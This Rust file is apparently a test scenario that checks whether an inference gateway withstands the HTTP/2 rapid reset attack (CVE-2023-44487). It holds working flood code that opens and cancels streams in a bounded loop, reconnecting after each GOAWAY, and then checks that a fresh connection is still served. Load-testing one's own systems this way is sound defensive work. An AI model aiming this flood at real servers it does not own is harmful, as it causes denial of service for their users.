//! HTTP/2 rapid reset (CVE-2023-44487): on an h2c connection, open a stream (an infer POST's
//! headers) and reset it at once, in a tight loop bounded by a count and the measured window.
//! When the gateway closes the connection (GOAWAY), the attack reconnects and goes on. Either
//! answer to the flood is acceptable (closing the abusive connection, or absorbing it); what
//! matters is that the well-behaved client stays served and a fresh connection still works.

use std::future::poll_fn;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use h2::Reason;
use serde_json::json;

use super::h2c::{self, Ending};
use super::{AbuseOptions, AttackOutcome, Gateway, ScenarioReport, delta, with_probe};
use crate::admin;
use crate::verdict::{Check, quantile};

/// Connections the attack may open (it reconnects after each GOAWAY; a GOAWAY comes after
/// about a hundred resets, so the window, not this, usually ends the attack).
const MAX_CONNECTIONS: u64 = 50_000;
/// Resets between yields to the connection's I/O task.
const BURST: u64 = 32;

pub async fn run(o: &AbuseOptions) -> ScenarioReport {
    let g = o.limits;
    let before = admin::metrics(g.admin).await.unwrap_or_default();
    let max = o.max_resets;
    let mut report =
        with_probe("rapid_reset", &g, o, Duration::from_millis(500), |until| attack(g, max, until)).await;
    let after = admin::metrics(g.admin).await.unwrap_or_default();
    let seen = delta(&before, &after, "gateway_requests_total", &[]);
    if let Some(map) = report.figures.as_object_mut() {
        map.insert("gateway_requests_total_delta".into(), json!(seen));
    }
    report.checks.push(fresh_connection(g.data).await);
    report
}

/// One attack connection: the resets it carried and how it ended (`None`: still open).
#[derive(Debug, Clone)]
struct Spent {
    resets: u64,
    ending: Option<Ending>,
}

async fn attack(g: Gateway, max_resets: u64, until: Instant) -> Result<AttackOutcome, String> {
    let started = Instant::now();
    let mut total = 0u64;
    let mut spent: Vec<Spent> = Vec::new();
    let mut connect_errors = Vec::new();
    while total < max_resets && Instant::now() < until && (spent.len() as u64) < MAX_CONNECTIONS {
        match one_connection(g.data, max_resets - total, until).await {
            Ok(s) => {
                total += s.resets;
                spent.push(s);
            }
            Err(e) => {
                connect_errors.push(e);
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
    }
    let elapsed = started.elapsed();
    Ok(judge(total, &spent, &connect_errors, elapsed))
}

/// Resets streams on one connection until it ends, `budget` is spent or `until`.
async fn one_connection(addr: SocketAddr, budget: u64, until: Instant) -> Result<Spent, String> {
    let mut h2 = h2c::connect(addr, None).await?;
    let uri = format!("http://{addr}/v2/models/credit-scoring/infer");
    let mut resets = 0u64;
    while resets < budget && Instant::now() < until {
        let ready = tokio::time::timeout(Duration::from_secs(1), poll_fn(|cx| h2.send.poll_ready(cx))).await;
        if !matches!(ready, Ok(Ok(()))) {
            break;
        }
        let request = http::Request::post(uri.as_str())
            .header("content-type", "application/json")
            .body(())
            .map_err(|e| format!("building the request: {e}"))?;
        let Ok((response, mut stream)) = h2.send.send_request(request, false) else { break };
        stream.send_reset(Reason::CANCEL);
        drop(response);
        resets += 1;
        if resets.is_multiple_of(BURST) {
            tokio::task::yield_now().await;
        }
    }
    let ending = h2.wait_end(Duration::from_millis(200)).await.map(|(_, how)| how);
    Ok(Spent { resets, ending })
}

fn judge(total: u64, spent: &[Spent], connect_errors: &[String], elapsed: Duration) -> AttackOutcome {
    let closed: Vec<&Spent> = spent.iter().filter(|s| s.ending.is_some()).collect();
    let mut per_closed: Vec<u64> = closed.iter().map(|s| s.resets).collect();
    per_closed.sort();
    let mut endings: std::collections::BTreeMap<String, u64> = std::collections::BTreeMap::new();
    for s in &closed {
        if let Some(e) = &s.ending {
            *endings.entry(e.describe()).or_insert(0) += 1;
        }
    }
    let rate = total as f64 / elapsed.as_secs_f64().max(1e-9);
    let outcome = if closed.is_empty() {
        format!("the gateway never closed the attacking connection ({total} resets on it)")
    } else {
        let kinds: Vec<String> = endings.iter().map(|(k, n)| format!("{n} x {k}")).collect();
        format!(
            "the gateway closed {} of {} connections ({}) after a median of {} resets each",
            closed.len(),
            spent.len(),
            kinds.join(", "),
            quantile(&per_closed, 0.5).unwrap_or(0)
        )
    };
    let mut checks = vec![Check::functional(
        "rapid_reset.sent",
        total > 0,
        format!(
            "{total} streams opened and reset at once in {:.1} s ({rate:.0}/s); {outcome}",
            elapsed.as_secs_f64()
        ),
    )];
    if let Some(e) = connect_errors.first() {
        checks.push(Check::functional(
            "rapid_reset.reconnects",
            connect_errors.len() < 10,
            format!("{} reconnections failed: {e}", connect_errors.len()),
        ));
    }
    let figures = json!({
        "resets": total,
        "rate_per_s": rate.round(),
        "connections": spent.len(),
        "connections_closed_by_gateway": closed.len(),
        "endings": endings,
        "resets_before_close_median": quantile(&per_closed, 0.5),
        "connect_errors": connect_errors.len(),
    });
    AttackOutcome { figures, checks }
}

/// After the attack, a fresh h2c connection gets an answer.
async fn fresh_connection(addr: SocketAddr) -> Check {
    let answer = async {
        let mut h2 = h2c::connect(addr, None).await?;
        h2c::request(&mut h2, addr, "/v2/health/ready", None, Duration::from_secs(2)).await
    };
    match answer.await {
        Ok(status) => Check::functional(
            "rapid_reset.fresh_connection",
            status == "200",
            format!("a new h2c connection after the attack: GET /v2/health/ready -> {status}"),
        ),
        Err(e) => Check::functional(
            "rapid_reset.fresh_connection",
            false,
            format!("a new h2c connection after the attack: {e}"),
        ),
    }
}
